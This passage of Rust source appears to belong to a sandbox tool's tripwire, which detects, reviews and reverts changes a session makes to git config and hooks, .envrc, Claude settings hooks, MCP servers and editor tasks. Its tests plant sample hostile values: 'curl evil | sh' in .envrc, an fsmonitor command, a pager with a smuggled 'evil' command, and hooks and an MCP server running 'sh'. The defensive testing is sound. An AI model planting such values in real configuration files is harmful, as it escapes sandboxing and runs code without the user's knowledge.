                let _ = writeln!(err, "claude-sandbox: skipping {}: {e}", p.display());
            }
        }
    }
    out.sort_by(|a, b| (a.1.ended, &a.0).cmp(&(b.1.ended, &b.0)));
    out
}

fn list(sessions: &[(PathBuf, Session)], out: &mut dyn Write) -> i32 {
    let mut any = false;
    for (_, s) in sessions {
        let open: Vec<&Change> = s
            .changes
            .iter()
            .filter(|c| c.items.iter().any(|i| !i.reverted))
            .collect();
        if open.is_empty() {
            continue;
        }
        any = true;
        let _ = writeln!(
            out,
            "Session ended {} in {}:",
            crate::sys::clock::utc(s.ended),
            shown(&s.workspace.to_string_lossy())
        );
        for c in open {
            let _ = out.write_all(change_line(c).as_bytes());
        }
    }
    if !any {
        let _ = writeln!(out, "claude-sandbox: no recorded change to review");
        return 0;
    }
    let _ = writeln!(out, "Undo with: {} review --revert", paths::SELF_BIN);
    1
}

/// Undo every recorded change, newest session first (so a path changed by
/// two sessions goes back step by step); each session's file is rewritten
/// with what was reverted.
fn revert_all(
    mut sessions: Vec<(PathBuf, Session)>,
    out: &mut dyn Write,
    err: &mut dyn Write,
) -> i32 {
    let (mut done, mut left) = (0usize, 0usize);
    for (file, s) in sessions.iter_mut().rev() {
        let mut touched = false;
        for (ci, ii) in revert_order(&s.changes) {
            let item = &mut s.changes[ci].items[ii];
            if item.reverted {
                continue;
            }
            let name = shown(&item.path.to_string_lossy());
            match revert_item(item) {
                Ok(()) => {
                    item.reverted = true;
                    touched = true;
                    done += 1;
                    let _ = writeln!(out, "reverted {name}");
                }
                Err(why) => {
                    left += 1;
                    let _ = writeln!(err, "claude-sandbox: not reverted: {name}: {why}");
                }
            }
        }
        if !touched {
            continue;
        }
        if let Err(e) = session_bytes(s).and_then(|b| write_atomic(file, &b, 0o600)) {
            left += 1;
            let _ = writeln!(
                err,
                "claude-sandbox: could not update {}: {e}",
                file.display()
            );
        }
    }
    if done + left == 0 {
        let _ = writeln!(out, "claude-sandbox: nothing to revert");
    }
    i32::from(left > 0)
}

/// The order items are undone in: removed directories recreated (parents
/// first), then files, then created directories removed (children first).
fn revert_order(changes: &[Change]) -> Vec<(usize, usize)> {
    let mut all: Vec<(usize, usize)> = changes
        .iter()
        .enumerate()
        .flat_map(|(ci, c)| (0..c.items.len()).map(move |ii| (ci, ii)))
        .collect();
    let group = |&(ci, ii): &(usize, usize)| {
        let it: &Item = &changes[ci].items[ii];
        match (&it.old, it.new.as_deref()) {
            (Old::Dir { .. }, _) => 0,
            (Old::Absent, Some("dir")) => 2,
            _ => 1,
        }
    };
    all.sort_by(|a, b| {
        let (pa, pb) = (&changes[a.0].items[a.1].path, &changes[b.0].items[b.1].path);
        group(a).cmp(&group(b)).then_with(|| match group(a) {
            0 => pa.cmp(pb),
            _ => pb.cmp(pa),
        })
    });
    all
}

/// Put one path back, if it still holds exactly what the session left.
fn revert_item(it: &Item) -> Result<(), String> {
    if it.new.as_deref() == Some(UNREAD) {
        return Err("what the session left was not read (too large, or not a regular file)".into());
    }
    if it.old == Old::Unknown {
        return Err("what was there before the session was not kept".into());
    }
    if current(&it.path, &it.old)? != it.new {
        return Err("it changed since the session ended; check it by hand".into());
    }
    let io = |e: std::io::Error| e.to_string();
    match &it.old {
        Old::Keys { existed, values } => revert_keys(&it.path, *existed, values),
        Old::Absent => remove(&it.path),
        Old::File { mode, content } => {
            remove_dir_at(&it.path)?;
            write_atomic(&it.path, content, *mode).map_err(io)
        }
        Old::Link { target } => {
            remove_dir_at(&it.path)?;
            symlink_atomic(target, &it.path).map_err(io)
        }
        Old::Dir { mode } => {
            if entry_at(&it.path)?.is_some() {
                std::fs::remove_file(&it.path).map_err(io)?;
            }
            std::fs::DirBuilder::new()
                .mode(*mode)
                .create(&it.path)
                .map_err(io)?;
            std::fs::set_permissions(&it.path, std::fs::Permissions::from_mode(*mode)).map_err(io)
        }
        Old::Unknown => Err("what was there before the session was not kept".into()),
    }
}

/// What is at `path` now, read as a revert compares it.
fn entry_at(path: &Path) -> Result<Option<Entry>, String> {
    match std::fs::symlink_metadata(path) {
        Ok(m) => Ok(Some(read_entry(path, &m, None, &mut { SETTINGS_MAX }))),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(e.to_string()),
    }
}

/// The fingerprint of what is at `path` now, comparable to [`Item::new`].
fn current(path: &Path, old: &Old) -> Result<Option<String>, String> {
    let e = entry_at(path)?;
    match old {
        Old::Keys { values, .. } => {
            let p = projection(e.as_ref(), true)?;
            let keys: Vec<Vec<String>> = values.iter().map(|(k, _)| k.clone()).collect();
            Ok(Some(keys_fingerprint(&p, &keys)))
        }
        _ => Ok(e.map(|e| fingerprint(&e))),
    }
}

/// Remove what the session added: a file or link, or an empty directory.
fn remove(path: &Path) -> Result<(), String> {
    let is_dir = std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
    let r = if is_dir {
        std::fs::remove_dir(path)
    } else {
        std::fs::remove_file(path)
    };
    r.map_err(|e| match e.raw_os_error() {
        Some(nix::libc::ENOTEMPTY) => {
            "the directory holds files the session did not add; left in place".into()
        }
        _ => e.to_string(),
    })
}

/// Make room for a file where the session left an (empty) directory.
fn remove_dir_at(path: &Path) -> Result<(), String> {
    match std::fs::symlink_metadata(path) {
        Ok(m) if m.is_dir() => remove(path),
        _ => Ok(()),
    }
}

fn symlink_atomic(target: &Path, path: &Path) -> std::io::Result<()> {
    let mut tmp_name = OsString::from(".");
    tmp_name.push(path.file_name().unwrap_or_default());
    tmp_name.push(format!(".csb-{}.tmp", std::process::id()));
    let tmp = path.with_file_name(tmp_name);
    std::os::unix::fs::symlink(target, &tmp)?;
    std::fs::rename(&tmp, path).inspect_err(|_| {
        let _ = std::fs::remove_file(&tmp);
    })
}

/// Put the old values of settings keys back, leaving every other key as it
/// is now; a file the session created is removed once nothing is left in it.
fn revert_keys(
    path: &Path,
    existed: bool,
    values: &[(Vec<String>, Option<Value>)],
) -> Result<(), String> {
    let (mut v, mode) = match entry_at(path)? {
        None => (Value::Object(Default::default()), 0o600),
        Some(Entry::File {
            meta,
            content: Some(c),
        }) => (
            serde_json::from_slice(&c).map_err(|e| format!("not JSON: {e}"))?,
            meta.mode & 0o7777,
        ),
        Some(_) => return Err("not a regular file".into()),
    };
    let obj = v.as_object_mut().ok_or("not a JSON object")?;
    for (k, old) in values {
        set_key(obj, k, old.clone());
    }
    if !existed && obj.is_empty() {
        return remove(path);
    }
    let mut text = serde_json::to_vec_pretty(&v).map_err(|e| e.to_string())?;
    text.push(b'\n');
    write_atomic(path, &text, mode).map_err(|e| e.to_string())
}

/// Set (or with `None` remove) the value at a path of object keys.
fn set_key(obj: &mut serde_json::Map<String, Value>, key: &[String], value: Option<Value>) {
    match (key, value) {
        ([], _) => {}
        ([last], Some(v)) => {
            obj.insert(last.clone(), v);
        }
        ([last], None) => {
            obj.shift_remove(last);
        }
        ([first, rest @ ..], value) => {
            if value.is_none() && !obj.contains_key(first) {
                return;
            }
            let child = obj
                .entry(first.clone())
                .or_insert_with(|| Value::Object(Default::default()));
            if !child.is_object() && value.is_some() {
                *child = Value::Object(Default::default());
            }
            if let Some(m) = child.as_object_mut() {
                set_key(m, rest, value);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn meta(mode: u32, ctime: i64) -> Meta {
        Meta {
            dev: 1,
            ino: 1,
            size: 0,
            mode,
            mtime: (ctime, 0),
            ctime: (ctime, 0),
            btime: None,
        }
    }

    fn file(text: &str) -> Entry {
        Entry::File {
            meta: meta(0o100644, 0),
            content: Some(text.as_bytes().to_vec()),
        }
    }

    fn root(e: Entry) -> Tree {
        [(PathBuf::new(), e)].into()
    }

    fn tmp(name: &str) -> PathBuf {
        let d = std::env::temp_dir().join(format!("csb-trip-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        d.canonicalize().unwrap()
    }

    fn write(p: &Path, text: &str) {
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    const CFG: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";

    #[test]
    fn git_config_reports_only_the_keys_that_run_code() {
        let p = Path::new("/ws/sub/.git/config");
        let empty = Tree::new();
        // `git init`: a new config without any key that runs code.
        assert_eq!(compare(p, Kind::GitConfig, &empty, &root(file(CFG))), None);
        let armed = format!("{CFG}\tfsmonitor = touch MARK\n[remote \"o\"]\n\turl = x\n");
        let c = compare(p, Kind::GitConfig, &empty, &root(file(&armed))).unwrap();
        assert_eq!(c.mark, Mark::Added);
        assert_eq!(c.what, "(new)  core.fsmonitor = touch MARK");
        assert_eq!(c.items.len(), 1);
        assert_eq!(c.items[0].old, Old::Absent);
        assert!(c.items[0].new.as_deref().unwrap().starts_with("file 644 "));
        // Unrelated keys change: nothing to report.
        let more = format!("{armed}[branch \"m\"]\n\tremote = o\n");
        assert_eq!(
            compare(p, Kind::GitConfig, &root(file(&armed)), &root(file(&more))),
            None
        );
        // A changed value and a removed alias.
        let before = format!("{CFG}[core]\n\tpager = less\n[alias]\n\tx = !sh\n");
        let after = format!("{CFG}[core]\n\tpager = \"less; evil\" ; a comment\n");
        let c = compare(
            p,
            Kind::GitConfig,
            &root(file(&before)),
            &root(file(&after)),
        )
        .unwrap();
        assert_eq!(c.mark, Mark::Changed);
        assert_eq!(c.what, "core.pager = less; evil; alias.x removed");
        // What git would refuse is still reported, never ignored.
        let c = compare(p, Kind::GitConfig, &empty, &root(file("[core\n"))).unwrap();
        assert!(
            c.what.contains("not read as git config (line 1"),
            "{}",
            c.what
        );
    }

    #[test]
    fn settings_report_only_the_keys_that_run_code() {
        let p = Path::new("/ws/.claude/settings.json");
        let k = Kind::Settings { projects: false };
        let before = r#"{"permissions":{"allow":["Bash(ls)"]},"env":{"A":"1"},"hooks":{}}"#;
        let perms = r#"{"env":{"A":"1"},"permissions":{"allow":["Bash(*)"]}}"#;
        assert_eq!(
            compare(p, k, &root(file(before)), &root(file(perms))),
            None,
            "permissions, key order and an empty `hooks` do not run code"
        );
        let after = r#"{"env":{"A":"2","B":"secret"},"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"evil"}]}]},"apiKeyHelper":"curl x","permissions":{}}"#;
        let c = compare(p, k, &root(file(before)), &root(file(after))).unwrap();
        assert_eq!(c.mark, Mark::Changed);
        assert_eq!(
            c.what,
            "apiKeyHelper = curl x; env.A changed; env.B added; hooks.SessionStart added"
        );
        assert!(!c.what.contains("secret"), "env values are never shown");
        let Old::Keys { existed, values } = &c.items[0].old else {
            panic!("{:?}", c.items[0].old)
        };
        assert!(*existed);
        assert_eq!(values.len(), 3);
        // A new file with hooks: added.
        let c = compare(p, k, &Tree::new(), &root(file(after))).unwrap();
        assert_eq!(c.mark, Mark::Added);
        assert!(c.what.starts_with("(new)  apiKeyHelper"), "{}", c.what);
        // ~/.claude.json: per-project MCP servers count; its other churn does not.
        let p = Path::new("/home/u/.claude.json");
        let k = Kind::Settings { projects: true };
        let a = r#"{"numStartups":1,"projects":{"/ws":{"mcpServers":{},"history":[]}}}"#;
        let b = r#"{"numStartups":2,"projects":{"/ws":{"mcpServers":{},"history":["x"]},"/new":{"mcpServers":{}}}}"#;
        assert_eq!(compare(p, k, &root(file(a)), &root(file(b))), None);
        let b = r#"{"projects":{"/ws":{"mcpServers":{"evil":{"command":"sh"}}}}}"#;
        let c = compare(p, k, &root(file(a)), &root(file(b))).unwrap();
        assert_eq!(c.what, "projects[\"/ws\"].mcpServers.evil added");
        // Not JSON any more: reported, with the whole file to put back.
        let c = compare(p, k, &root(file(a)), &root(file("{"))).unwrap();
        assert!(c.what.starts_with("not JSON"), "{}", c.what);
        assert!(matches!(c.items[0].old, Old::File { .. }));
    }

    #[test]
    fn directories_list_files_added_changed_and_removed() {
        let p = Path::new("/ws/.git/hooks");
        let dir = Entry::Dir {
            meta: meta(0o40755, 0),
        };
        let mut old = root(dir.clone());
        old.insert("pre-commit".into(), file("#!/bin/sh\n"));
        old.insert("post-merge".into(), file("#!/bin/sh\n"));
        let mut new = old.clone();
        // `chmod +x` arms a hook whose content did not change.
        new.insert(
            "pre-commit".into(),
            Entry::File {
                meta: meta(0o100755, 5),
                content: Some(b"#!/bin/sh\n".to_vec()),
            },
        );
        new.remove(Path::new("post-merge"));
        new.insert("post-checkout".into(), file("evil"));
        new.insert("sub".into(), dir.clone());
        let c = compare(p, Kind::Hooks, &old, &new).unwrap();
        assert_eq!(c.mark, Mark::Changed);
        assert_eq!(
            c.what,
            "post-checkout added, post-merge removed, pre-commit changed"
        );
        assert_eq!(c.items.len(), 4, "the new empty directory is put back too");
        // A new repository's hooks directory with git's samples only (left
        // out by the scan): nothing.
        assert_eq!(
            compare(p, Kind::Hooks, &Tree::new(), &root(dir.clone())),
            None
        );
        // With a planted hook: the hook is removed by a revert, git's own directory stays.
        let mut planted = root(dir);
        planted.insert("post-checkout".into(), file("evil"));
        let c = compare(p, Kind::Hooks, &Tree::new(), &planted).unwrap();
        assert_eq!(c.what, "(new)  post-checkout added");
        assert_eq!(c.items.len(), 1);
        // A plain protected file.
        let p = Path::new("/ws/.envrc");
        let c = compare(p, Kind::Other, &root(file("a")), &Tree::new()).unwrap();
        assert_eq!((c.mark, c.what.as_str()), (Mark::Removed, "(removed)"));
        let c = compare(p, Kind::Other, &root(file("a")), &root(file("b"))).unwrap();
        assert_eq!((c.mark, c.what.as_str()), (Mark::Changed, "changed"));
    }

    #[test]
    fn a_path_first_found_at_exit_keeps_what_predates_the_session() {
        let since = UNIX_EPOCH + Duration::from_secs(100);
        let mut now = Tree::new();
        now.insert(
            "old".into(),
            Entry::File {
                meta: meta(0o100644, 50),
                content: Some(b"x".to_vec()),
            },
        );
        now.insert(
            "new".into(),
            Entry::File {
                meta: meta(0o100644, 150),
                content: Some(b"y".to_vec()),
            },
        );
        let mut rewritten = meta(0o100644, 150);
        rewritten.btime = Some((10, 0));
        now.insert(
            "rewritten".into(),
            Entry::File {
                meta: rewritten,
                content: Some(b"z".to_vec()),
            },
        );
        let before = untouched_before(&now, since);
        assert_eq!(before.get(Path::new("old")), now.get(Path::new("old")));
        assert_eq!(before.get(Path::new("new")), None);
        assert_eq!(before.get(Path::new("rewritten")), Some(&Entry::Unknown));
        let c = compare(Path::new("/ws/sub/.vscode"), Kind::Other, &before, &now).unwrap();
        assert_eq!(c.what, "new added, rewritten changed");
        let unknown = c
            .items
            .iter()
            .find(|i| i.path.ends_with("rewritten"))
            .unwrap();
        assert_eq!(unknown.old, Old::Unknown, "cannot be put back");
    }

    #[test]
    fn the_log_keeps_bytes_and_paths_exactly() {
        let s = Session {
            version: 1,
            started: 1,
            ended: 2,
            workspace: PathBuf::from(<OsString as std::os::unix::ffi::OsStringExt>::from_vec(
                b"/ws/\xff".to_vec(),
            )),
            changes: vec![Change {
                path: "/ws/.envrc".into(),
                mark: Mark::Changed,
                what: "changed".into(),
                items: vec![Item {
                    path: "/ws/.envrc".into(),
                    old: Old::File {
                        mode: 0o644,
                        content: b"\x00\xfe binary".to_vec(),
                    },
                    new: Some("file 644 ab".into()),
                    reverted: false,
                }],
            }],
        };
        let text = String::from_utf8(session_bytes(&s).unwrap()).unwrap();
        assert!(text.contains("\"mark\": \"~\""), "{text}");
        assert!(text.contains("\"hex\": \"2f77732fff\""), "{text}");
        assert!(text.contains("\"hex\": \"00fe2062696e617279\""), "{text}");
        let back: Session = serde_json::from_str(&text).unwrap();
        assert_eq!(back, s);
    }

    #[test]
    fn the_block_is_one_and_safe_to_print() {
        let c = Change {
            path: "/ws/sub/.git/config".into(),
            mark: Mark::Added,
            what: format!("(new)  core.pager = {}", shown("a\x1b[2Jb\u{202e}c")),
            items: Vec::new(),
        };
        let b = block(&[c]);
        assert_eq!(
            b,
            format!(
                "claude-sandbox: this session changed what runs outside the sandbox:\n  \
                 + /ws/sub/.git/config  (new)  core.pager = a\\u{{1b}}[2Jb\\u{{202e}}c\n\
                 Review with: {0} review\nUndo with:   {0} review --revert\n",
                paths::SELF_BIN
            )
        );
        assert_eq!(shown(&"x".repeat(200)).chars().count(), 121);
        assert_eq!(crate::sys::clock::utc(0), "1970-01-01 00:00:00 UTC");
        assert_eq!(
            crate::sys::clock::utc(1_709_210_096),
            "2024-02-29 12:34:56 UTC"
        );
    }

    /// A workspace with a repository, a home with settings: what the e2e
    /// worlds have, without namespaces.
    fn world(name: &str) -> (PathBuf, PathBuf, PathBuf) {
        let base = tmp(name);
        let (home, ws) = (base.join("home"), base.join("ws"));
        write(&ws.join(".git/HEAD"), "ref: refs/heads/main\n");
        write(&ws.join(".git/config"), CFG);
        write(&ws.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n");
        write(&ws.join(".envrc"), "export A=1\n");
        write(&ws.join(".mcp.json"), "{}\n");
        write(&home.join(".claude.json"), r#"{"projects":{}}"#);
        write(&home.join(".claude/settings.json"), r#"{"model":"x"}"#);
        (base, home, ws)
    }

    #[test]
    fn an_unchanged_session_finds_nothing_and_a_changed_one_everything() {
        let (base, home, ws) = world("detect");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        assert_eq!(w.changes(), Vec::new());
        // What a session inside could do.
        write(&ws.join("sub/.git/HEAD"), "ref: refs/heads/main\n");
        write(
            &ws.join("sub/.git/config"),
            &format!("{CFG}\tfsmonitor = touch MARK\n"),
        );
        write(&ws.join("sub/.git/hooks/update.sample"), "#!/bin/sh\n");
        write(&ws.join(".vscode/tasks.json"), "{}");
        write(&ws.join(".envrc"), "curl evil | sh\n");
        std::fs::remove_file(ws.join(".mcp.json")).unwrap();
        write(
            &ws.join(".claude/settings.json"),
            r#"{"hooks":{"Stop":[]},"statusLine":{"command":"x"}}"#,
        );
        write(&home.join(".claude/settings.json"), r#"{"model":"y"}"#);
        let got: Vec<(String, char, String)> = w
            .changes()
            .into_iter()
            .map(|c| {
                let rel = c.path.strip_prefix(&base).unwrap().display().to_string();
                (rel, c.mark.sign(), c.what)
            })
            .collect();
        let want = [
            (
                "ws/.claude/settings.json",
                '+',
                "(new)  hooks.Stop added; statusLine.command added",
            ),
            ("ws/.envrc", '~', "changed"),
            ("ws/.mcp.json", '-', "(removed)"),
            ("ws/.vscode", '+', "(new)  tasks.json added"),
            (
                "ws/sub/.git/config",
                '+',
                "(new)  core.fsmonitor = touch MARK",
            ),
        ];
        let want: Vec<(String, char, String)> = want
            .iter()
            .map(|(p, m, w)| (p.to_string(), *m, w.to_string()))
            .collect();
        assert_eq!(got, want);
        std::fs::remove_dir_all(&base).unwrap();
    }

    fn review_text(home: &Path, revert: bool) -> (i32, String, String) {
        let (mut out, mut err) = (Vec::new(), Vec::new());
        let code = review(home, revert, &mut out, &mut err);
        (
            code,
            String::from_utf8(out).unwrap(),
            String::from_utf8(err).unwrap(),
        )
    }

    #[test]
    fn review_lists_and_revert_undoes_unless_changed_since() {
        let (base, home, ws) = world("revert");
        std::fs::set_permissions(ws.join(".envrc"), std::fs::Permissions::from_mode(0o640))
            .unwrap();
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(&ws.join("sub/.git/HEAD"), "ref: refs/heads/main\n");
        write(
            &ws.join("sub/.git/config"),
            &format!("{CFG}\tfsmonitor = touch MARK\n"),
        );
        write(&ws.join(".vscode/sub/tasks.json"), "{}");
        write(&ws.join(".envrc"), "curl evil | sh\n");
        std::fs::remove_file(ws.join(".mcp.json")).unwrap();
        write(&ws.join(".git/hooks/post-checkout"), "evil");
        write(
            &home.join(".claude/settings.json"),
            r#"{"model":"y","hooks":{"Stop":[{"hooks":[]}]}}"#,
        );
        let changes = w.changes();
        let session = Session {
            version: 1,
            started: 0,
            ended: 0,
            workspace: ws.clone(),
            changes,
        };
        record(&home, &session).unwrap();
        let (code, out, _) = review_text(&home, false);
        assert_eq!(code, 1, "changes left to review");
        assert!(out.contains("core.fsmonitor = touch MARK"), "{out}");
        assert!(out.contains("hooks.Stop added"), "{out}");
        // Changed again after the session: that path is left, with one line.
        write(&ws.join(".git/hooks/post-checkout"), "edited by the user");
        let (code, out, err) = review_text(&home, true);
        assert_eq!(code, 1, "{out}{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(
            err.contains(".git/hooks/post-checkout: it changed since the session ended"),
            "{err}"
        );
        assert!(!ws.join("sub/.git/config").exists());
        assert!(
            ws.join("sub/.git/HEAD").exists(),
            "only the config was recorded"
        );
        assert!(!ws.join(".vscode").exists(), "the new directory is gone");
        assert_eq!(
            std::fs::read_to_string(ws.join(".envrc")).unwrap(),
            "export A=1\n"
        );
        let mode = std::fs::metadata(ws.join(".envrc"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o640, "the old mode is back");
        assert_eq!(
            std::fs::read_to_string(ws.join(".mcp.json")).unwrap(),
            "{}\n"
        );
        let settings = std::fs::read_to_string(home.join(".claude/settings.json")).unwrap();
        let v: Value = serde_json::from_str(&settings).unwrap();
        assert_eq!(
            v,
            serde_json::json!({"model": "y"}),
            "only the hooks key went back"
        );
        // What is left is listed; once it holds what the session left, it goes too.
        let (code, out, _) = review_text(&home, false);
        assert_eq!(code, 1);
        assert_eq!(
            out.lines().filter(|l| l.starts_with("  ")).count(),
            1,
            "{out}"
        );
        write(&ws.join(".git/hooks/post-checkout"), "evil");
        assert_eq!(review_text(&home, true).0, 0);
        assert!(!ws.join(".git/hooks/post-checkout").exists());
        let (code, out, _) = review_text(&home, false);
        assert_eq!(
            (code, out.trim()),
            (0, "claude-sandbox: no recorded change to review")
        );
        let (code, out, _) = review_text(&home, true);
        assert_eq!((code, out.trim()), (0, "claude-sandbox: nothing to revert"));
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_settings_file_the_session_created_goes_when_emptied() {
        let (base, home, ws) = world("settings-new");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(
            &ws.join(".claude/settings.local.json"),
            r#"{"env":{"X":"1"}}"#,
        );
        let session = Session {
            version: 1,
            started: 0,
            ended: 0,
            workspace: ws.clone(),
            changes: w.changes(),
        };
        assert_eq!(session.changes.len(), 1);
        record(&home, &session).unwrap();
        assert_eq!(review_text(&home, true).0, 0);
        assert!(!ws.join(".claude/settings.local.json").exists());
        std::fs::remove_dir_all(&base).unwrap();
    }

    /// The launch cost of the tripwire for an unchanged session, on this
    /// repository (run: `cargo test --release --lib -- --ignored
    /// --nocapture tripwire_cost`; reported in docs/benchmarks.md).
    #[test]
    #[ignore]
    fn tripwire_cost() {
        let ws = Path::new(env!("CARGO_MANIFEST_DIR"))
            .canonicalize()
            .unwrap();
        let base = tmp("cost");
        let home = base.join("home");
        write(&home.join(".claude/settings.json"), r#"{"model":"x"}"#);
        // A small and a long-used ~/.claude.json (projects with their history).
        for projects in [20, 2000] {
            let projects: serde_json::Map<String, Value> = (0..projects)
                .map(|i| {
                    let p =
                        serde_json::json!({"mcpServers": {}, "history": vec!["some prompt"; 80]});
                    (format!("/ws/p{i}"), p)
                })
                .collect();
            let big = serde_json::json!({ "numStartups": 3, "projects": projects });
            write(&home.join(".claude.json"), &big.to_string());
            let n = 50;
            let (mut snap, mut cmp) = (Duration::ZERO, Duration::ZERO);
            for _ in 0..n {
                let t = std::time::Instant::now();
                let w = Watch::start(&home, &ws, protect::discover(&ws));
                let t1 = t.elapsed();
                assert!(w.changes().is_empty());
                snap += t1;
                cmp += t.elapsed() - t1;
            }
            let n32 = n as u32;
            let watched = targets(&home, &ws, protect::discover(&ws)).len();
            let size = std::fs::metadata(home.join(".claude.json")).unwrap().len();
            println!(
                "tripwire on {}: {watched} paths, ~/.claude.json {size} bytes: snapshot {:?}, comparison {:?}, total {:?} (mean of {n})",
                ws.display(),
                snap / n32,
                cmp / n32,
                (snap + cmp) / n32
            );
            // Claude Code rewrites ~/.claude.json in every real session:
            // then both versions are parsed (after the session, not at launch).
            let w = Watch::start(&home, &ws, protect::discover(&ws));
            let bumped = big
                .to_string()
                .replace("\"numStartups\":3", "\"numStartups\":4");
            write(&home.join(".claude.json"), &bumped);
            let t = std::time::Instant::now();
            assert!(w.changes().is_empty());
            println!(
                "  comparison with ~/.claude.json rewritten: {:?}",
                t.elapsed()
            );
        }
        std::fs::remove_dir_all(&base).unwrap();
    }
}
